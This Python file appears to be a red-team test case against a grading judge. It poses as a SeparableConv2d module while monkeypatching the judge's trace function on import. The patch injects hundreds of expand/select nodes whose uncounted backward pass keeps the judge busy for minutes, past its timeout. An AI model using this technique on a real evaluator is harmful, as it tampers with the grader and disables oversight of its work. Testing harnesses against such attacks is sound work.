"""Hostile (second outside red team): the judge's BACKWARD on the graph runs with no deadline: minutes in one call.

Mechanism: _judge.Grading._run_graph runs the graph under the submission's deadline
(checked between nodes) and its FLOP limit, then calls loss.backward() with neither.
Backward work is never counted: select.int on expand(param -> [2**26] float64) is free and
holds no elements in the forward, but its backward (select_backward) writes a zero
gradient of all 2**26 elements, and autograd accumulates each into the expand's buffer
(~0.25 s per select). This correct module's process patches _trace.trace to append N = 600
such selects (all on one expanded view, so memory stays ~1 GiB), their sum, and
output = y + sum * 0: the graph's forward is instant and counted ~0 FLOPs, its backward
takes ~150 s in ONE uninterruptible call.
Expected correct verdict: PASS, or FAIL/ERROR within the 20 s timeout.
Break: the trusted judge busy past the backstop (3 x 20 + 30 s): "the judge died".
"""
import sys
from torch import nn

N = 600
BIG = 2 ** 26


def _extra(graph):
    nodes = graph["nodes"]
    params = [i for i, p in enumerate(graph["placeholders"]) if p["role"] == "param"]
    if not params or len(graph["outputs"]) != 1:
        return
    a = len(nodes)
    nodes.append({"op": "aten.view.default", "args": [{"p": params[0]}, [-1]], "kwargs": {}})
    nodes.append({"op": "aten.slice.Tensor", "args": [{"n": a}, 0, 0, 1], "kwargs": {}})
    nodes.append({"op": "aten._to_copy.default", "args": [{"n": a + 1}],
                  "kwargs": {"dtype": {"dtype": "float64"}}})
    nodes.append({"op": "aten.expand.default", "args": [{"n": a + 2}, [BIG]], "kwargs": {}})
    e = a + 3
    acc = None
    for i in range(N):
        nodes.append({"op": "aten.select.int", "args": [{"n": e}, 0, i], "kwargs": {}})
        s = len(nodes) - 1
        if acc is None:
            acc = s
        else:
            nodes.append({"op": "aten.add.Tensor", "args": [{"n": acc}, {"n": s}], "kwargs": {}})
            acc = len(nodes) - 1
    nodes.append({"op": "aten.mul.Tensor", "args": [{"n": acc}, 0.0], "kwargs": {}})
    nodes.append({"op": "aten.add.Tensor", "args": [graph["outputs"][0], {"n": len(nodes) - 1}],
                  "kwargs": {}})
    graph["outputs"][0] = {"n": len(nodes) - 1}


for _name, _mod in list(sys.modules.items()):
    if _name.endswith("._trace") and hasattr(_mod, "trace"):
        _orig = _mod.trace

        def _trace(*args, _orig=_orig, **kwargs):
            graph = _orig(*args, **kwargs)
            if isinstance(graph, dict) and isinstance(graph.get("nodes"), list):
                _extra(graph)
            return graph

        _mod.trace = _trace


class SeparableConv2d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(in_channels, in_channels, kernel_size,
                                   padding=kernel_size // 2, groups=in_channels, bias=False)
        self.pointwise = nn.Conv2d(in_channels, out_channels, 1, bias=False)

    def forward(self, x):
        return self.pointwise(self.depthwise(x))
